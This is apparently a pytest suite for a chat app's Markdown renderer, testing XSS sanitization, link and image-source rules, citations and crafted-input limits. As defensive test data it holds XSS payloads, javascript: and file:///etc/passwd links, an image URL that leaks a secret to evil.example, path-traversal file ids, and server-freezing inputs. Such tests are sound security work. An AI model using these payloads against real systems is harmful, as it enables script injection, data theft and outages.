"""Server-side Markdown rendering: stored-XSS corpus, URL rules, code hooks, citations."""

from __future__ import annotations

import html as html_module
import re
import time
from html.parser import HTMLParser

import pytest

from services.chat import rendering
from services.chat.math_render import MATH_ATTRIBUTES, MATH_TAGS
from services.chat.rendering import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    is_safe_image_src,
    render_citations,
    render_markdown,
    sanitize_html,
)
from tests.xss_corpus import EVIL_HOST, XSS_CORPUS

# Attributes the renderer adds itself after sanitizing.
ADDED_ATTRIBUTES = {
    "a": {"target", "rel", "class", "data-remote-image", "title"},
    "pre": {"class", "data-copy-code"},
    "sup": {"class"},
    "ol": {"class"},
    "li": {"value"},
}
FILE_ID = "0123456789abcdef0123456789abcdef"


class _Tags(HTMLParser):
    """Collects every real tag with its (decoded) attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def parse(html: str) -> _Tags:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser


def assert_inert(html: str) -> None:
    """Only allowed tags and attributes; links are http(s)/mailto/relative; images are ours."""
    parsed = parse(html)
    assert not parsed.comments
    for tag, attrs in parsed.tags:
        assert tag in ALLOWED_TAGS | MATH_TAGS | {"sup", "ol", "li"}, tag
        allowed = (
            set(ALLOWED_ATTRIBUTES.get(tag, []))
            | set(MATH_ATTRIBUTES.get(tag, []))
            | ADDED_ATTRIBUTES.get(tag, set())
        )
        assert set(attrs) <= allowed, (tag, attrs)
        if "href" in attrs:
            href = re.sub(r"[\x00-\x20]", "", attrs["href"] or "").lower()
            scheme = href.split(":", 1)[0] if re.match(r"^[a-z][a-z0-9+.-]*:", href) else ""
            assert scheme in ("", "http", "https", "mailto"), href
            assert attrs.get("target") == "_blank"
            assert attrs.get("rel") == "noopener noreferrer"
        if tag == "img":
            assert is_safe_image_src(attrs.get("src") or ""), attrs
    lowered = html.lower()
    for word in ("<script", "<iframe", "<svg", "<style", "<object", "<embed", "<form", "<base"):
        assert word not in lowered


@pytest.mark.parametrize("name", sorted(XSS_CORPUS))
def test_xss_corpus_renders_inert(name: str) -> None:
    html = render_markdown(XSS_CORPUS[name])
    assert_inert(html)
    for tag, attrs in parse(html).tags:
        if tag == "img":
            assert EVIL_HOST not in (attrs.get("src") or "").lower()


def test_whole_corpus_at_once_is_inert() -> None:
    assert_inert(render_markdown("\n\n".join(XSS_CORPUS.values())))


def test_raw_html_is_shown_as_text() -> None:
    html = render_markdown("<script>alert(1)</script> and <b>bold</b>")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;b&gt;bold&lt;/b&gt;" in html


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/leak?d=secret)",
        "![x][i]\n\n[i]: https://evil.example/leak?d=secret",
        "![x](HTTPS://EVIL.EXAMPLE/leak?d=secret)",
    ],
)
def test_remote_image_becomes_a_link_that_is_not_loaded(text: str) -> None:
    html = render_markdown(text)
    assert "<img" not in html
    tags = parse(html).tags
    assert len(tags) == 2  # <p><a ...>
    tag, attrs = tags[1]
    assert tag == "a"
    assert attrs["class"] == "remote-image"
    assert "data-remote-image" in attrs
    assert attrs["href"].lower().startswith("https://evil.example/leak")
    assert attrs["rel"] == "noopener noreferrer"
    assert "Remote image: x" in html


@pytest.mark.parametrize(
    "text", ["![x](//evil.example/a)", "![x](/\\evil.example/a)", "![x](javascript:alert(1))"]
)
def test_odd_image_urls_are_dropped_to_their_alt_text(text: str) -> None:
    html = render_markdown(text)
    assert "<img" not in html
    assert "[x]" in html


def test_own_files_and_data_images_are_shown() -> None:
    html = render_markdown(
        f"![a](/files/{FILE_ID}) ![b](/files/{FILE_ID}/thumbnail) ![c](data:image/png;base64,iVBO)"
    )
    sources = [attrs["src"] for tag, attrs in parse(html).tags if tag == "img"]
    assert sources == [
        f"/files/{FILE_ID}",
        f"/files/{FILE_ID}/thumbnail",
        "data:image/png;base64,iVBO",
    ]


@pytest.mark.parametrize(
    "src",
    [
        "data:image/svg+xml;base64,PHN2Zz4=",
        "data:text/html;base64,PHNjcmlwdD4=",
        f"/files/{FILE_ID}/../../etc/passwd",
        "/files/NOT-A-HEX-ID",
        f"//files/{FILE_ID}",
    ],
)
def test_other_image_sources_are_not_safe(src: str) -> None:
    assert not is_safe_image_src(src)
    assert "<img" not in render_markdown(f"![x]({src})")


def test_links_open_in_a_new_tab_without_opener() -> None:
    html = render_markdown("[docs](https://example.com/a?b=1&c=2) and <https://auto.example>")
    links = [attrs for tag, attrs in parse(html).tags if tag == "a"]
    assert [link["href"] for link in links] == [
        "https://example.com/a?b=1&c=2",
        "https://auto.example",
    ]
    assert all(
        link["target"] == "_blank" and link["rel"] == "noopener noreferrer" for link in links
    )


def test_mailto_links_are_kept() -> None:
    links = [
        a for tag, a in parse(render_markdown("[mail](mailto:team@example.com)")).tags if tag == "a"
    ]
    assert links[0]["href"] == "mailto:team@example.com"


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](data:text/html,hi)",
        "[x](vbscript:x)",
        "[x](file:///etc/passwd)",
    ],
)
def test_unsafe_links_lose_their_href(text: str) -> None:
    links = [attrs for tag, attrs in parse(render_markdown(text)).tags if tag == "a"]
    assert all("href" not in attrs for attrs in links)


def test_code_blocks_get_copy_hook_and_language_class() -> None:
    html = render_markdown("```python\nprint('<b>')\n```")
    tags = parse(html).tags
    assert ("pre", {"class": "code-block", "data-copy-code": ""}) in tags
    assert ("code", {"class": "language-python"}) in tags
    assert "&lt;b&gt;" in html and "<b>" not in html


def test_tables_and_lists_render() -> None:
    html = render_markdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n\n~~gone~~")
    names = [tag for tag, _ in parse(html).tags]
    assert {"table", "thead", "tbody", "tr", "th", "td", "ul", "li", "s"} <= set(names)


def test_foreign_classes_are_dropped() -> None:
    assert sanitize_html('<div class="fixed inset-0">x</div>') == "<div>x</div>"
    assert sanitize_html('<span class="k nf">x</span>') == '<span class="k nf">x</span>'


@pytest.mark.parametrize("name", sorted(XSS_CORPUS))
def test_sanitizer_alone_makes_raw_html_inert(name: str) -> None:
    """Defense in depth: even if Markdown let raw HTML through, bleach's layer holds."""
    assert_inert(sanitize_html(XSS_CORPUS[name]))


def test_empty_and_placeholder_characters() -> None:
    assert render_markdown("") == ""
    assert render_markdown("   \n") == ""
    assert render_markdown("a\ue000\ue001b\x00c") == "<p>abc</p>\n"


def test_rendering_is_cached_for_repeated_text() -> None:
    first = render_markdown("**same text** for the cache")
    assert render_markdown("**same text** for the cache") is first


# ---------------------------------------------------------------- citations

WEB = {"kind": "url", "title": "Cats <b>purr</b>", "url": "https://cats.example/a?x=1&y=2"}
FILE = {"kind": "file", "title": "notes", "filename": "notes.pdf", "file_id": "file-abc"}


def test_citations_get_numbered_markers_and_sources() -> None:
    text = "Cats purr. Dogs bark."
    html, sources = render_citations(
        text, [WEB | {"end": 10}, FILE | {"end": 21}, WEB | {"end": 21}]
    )
    assert [(s.number, s.title) for s in sources] == [(1, "Cats <b>purr</b>"), (2, "notes.pdf")]
    assert 'Cats purr.<sup class="citation-ref">[1]</sup>' in html
    assert (
        'Dogs bark.<sup class="citation-ref">[1]</sup><sup class="citation-ref">[2]</sup>' in html
    )
    assert '<ol class="citation-sources">' in html
    assert "Cats &lt;b&gt;purr&lt;/b&gt;" in html
    links = [a for tag, a in parse(html).tags if tag == "a"]
    assert links == [
        {"href": "https://cats.example/a?x=1&y=2", "target": "_blank", "rel": "noopener noreferrer"}
    ]
    assert_inert(html)


def test_citation_with_unsafe_url_is_listed_without_a_link() -> None:
    html, sources = render_citations(
        "Text", [{"kind": "url", "title": "bad", "url": "javascript:window.__xss=1"}]
    )
    assert sources[0].url is None
    assert "javascript" not in html
    assert html.endswith('<ol class="citation-sources"><li value="1">bad</li></ol>')


def test_citation_to_a_stored_file_links_to_the_files_route() -> None:
    html, sources = render_citations(
        "See the chart.",
        [
            {
                "kind": "container_file",
                "title": "",
                "filename": "chart.png",
                "stored_file_id": FILE_ID,
            }
        ],
    )
    assert sources[0].file_id == FILE_ID
    assert f'href="/files/{FILE_ID}"' in html
    html, sources = render_citations(
        "x", [{"kind": "file", "filename": "a", "stored_file_id": "../../etc/passwd"}]
    )
    assert sources[0].file_id is None and "etc/passwd" not in html


def test_citation_offsets_out_of_range_go_to_the_end() -> None:
    html, _ = render_citations("Short.", [WEB | {"end": 999}, FILE | {"end": -3}])
    assert "Short.<sup" in html


def test_no_citations_is_plain_markdown() -> None:
    assert render_citations("**hi**", []) == (render_markdown("**hi**"), [])


def test_citation_markers_cannot_be_forged_by_the_text() -> None:
    html, _ = render_citations("fake \ue0009\ue001 marker", [WEB | {"end": 4}])
    assert "[9]" not in html


def test_warm_cache_fills_the_render_cache() -> None:
    from services.chat.rendering import render_markdown, warm_cache

    render_markdown.cache_clear()
    warm_cache([("**bold** once", []), ("see [a](https://example.com)", [])])
    hits = render_markdown.cache_info().hits
    render_markdown("**bold** once")
    assert render_markdown.cache_info().hits == hits + 1


# ---------------------------------------------------------------- crafted input (issue 13)

# The messages that froze the server (markdown2 was quadratic) or broke a conversation for good
# (RecursionError on every load). Each must render without error, keep its text, and finish
# fast; the 10 s CPU limit is only a guard against a quadratic renderer coming back, which took
# minutes (today about 2 s CPU for the worst one; a loaded machine does not move CPU time; figures:
# `python -m bench.render_markdown`).
CRAFTED = {
    "nested links": "echo: " + "[a](" * 7_990,
    "backticks": "`" * 32_000,
    "tabs in one line": "a" + "\t" * 1_000 + "b",
    "tab-separated table": ("cell\t" * 1_000 + "\n") * 8,
}
GUARD_SECONDS = 10.0


@pytest.mark.parametrize("name", sorted(CRAFTED))
def test_crafted_messages_render_quickly_and_keep_their_text(name: str) -> None:
    text = CRAFTED[name]
    start = time.process_time()
    html = render_markdown.__wrapped__(text)
    assert time.process_time() - start < GUARD_SECONDS
    assert_inert(html)
    shown = html_module.unescape(re.sub(r"<[^>]+>", "", html))
    letters = re.sub(r"\s", "", text.replace("`", ""))
    assert re.sub(r"\s", "", shown.replace("`", "")) == letters


def test_markdown2_recursion_case_renders_as_markdown() -> None:
    html = render_markdown("| a\t" * 500 + "|\n\n**after**")
    assert "<strong>after</strong>" in html


def test_a_renderer_error_falls_back_to_escaped_text(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    class Broken:
        def parse(self, text: str, env: dict) -> list:
            raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr(rendering._renderers, "markdown", Broken())
    text = "**not bold** <script>alert(1)</script>\nline two"
    html = rendering.render_markdown.__wrapped__(text)
    assert html == ("<p>**not bold** &lt;script&gt;alert(1)&lt;/script&gt;<br>\nline two</p>\n")
    assert_inert(html)
    assert "shown as plain text" in caplog.text
    cited = rendering.render_fresh(text, [WEB | {"end": 3}])
    assert cited.startswith('<p>**n<sup class="citation-ref">[1]</sup>ot bold**')
    assert_inert(cited)


def test_text_over_the_limit_is_plain_text() -> None:
    text = "**x** " * (rendering.MAX_MARKDOWN_CHARS // 6 + 1)
    assert render_markdown.__wrapped__(text) == rendering.plain_html(text)


def test_nesting_too_deep_for_the_renderer_is_plain_text_and_loses_nothing() -> None:
    for text in ("> " * 16_000 + "deep", "- " * 40 + "deep\n\nafter"):
        html = render_markdown.__wrapped__(text)
        assert html == rendering.plain_html(text)
        assert "deep" in html
    assert "<blockquote>" in render_markdown("> > > three levels")


def test_only_short_or_cached_text_renders_on_the_event_loop() -> None:
    render_markdown.cache_clear()
    short = "**short**"
    assert rendering.render_if_cheap(short) == "<p><strong>short</strong></p>\n"
    long = "**long** " * 100
    assert rendering.render_if_cheap(long) is None
    assert rendering.cached_html(long) is None
    html = rendering.render_message(long)
    assert rendering.render_if_cheap(long) == html
    cited = [WEB | {"end": 4}]
    assert rendering.render_if_cheap(long, cited) is None
    rendering.remember(long, cited, "<p>from the worker</p>")
    assert rendering.render_if_cheap(long, cited) == "<p>from the worker</p>"
    assert rendering.render_fresh(long, cited) != "<p>from the worker</p>"


def test_render_cache_is_bounded_in_characters() -> None:
    cache = rendering.RenderCache(lambda text: text * 10, maxsize=100, max_chars=100)
    for word in ("aaaa", "bbbb", "cccc"):
        cache(word)
    assert cache.peek("aaaa") is None  # evicted: 120 characters held > 100
    assert cache.peek("cccc") == "cccc" * 10
    assert cache.cache_info().currsize == 2


def test_warm_cache_stops_at_its_budget() -> None:
    render_markdown.cache_clear()
    messages = [(f"message {n} " * 50, []) for n in range(20)]
    assert rendering.warm_cache(messages, budget_seconds=0) <= 1
    assert rendering.warm_cache(messages, budget_seconds=60) == 20
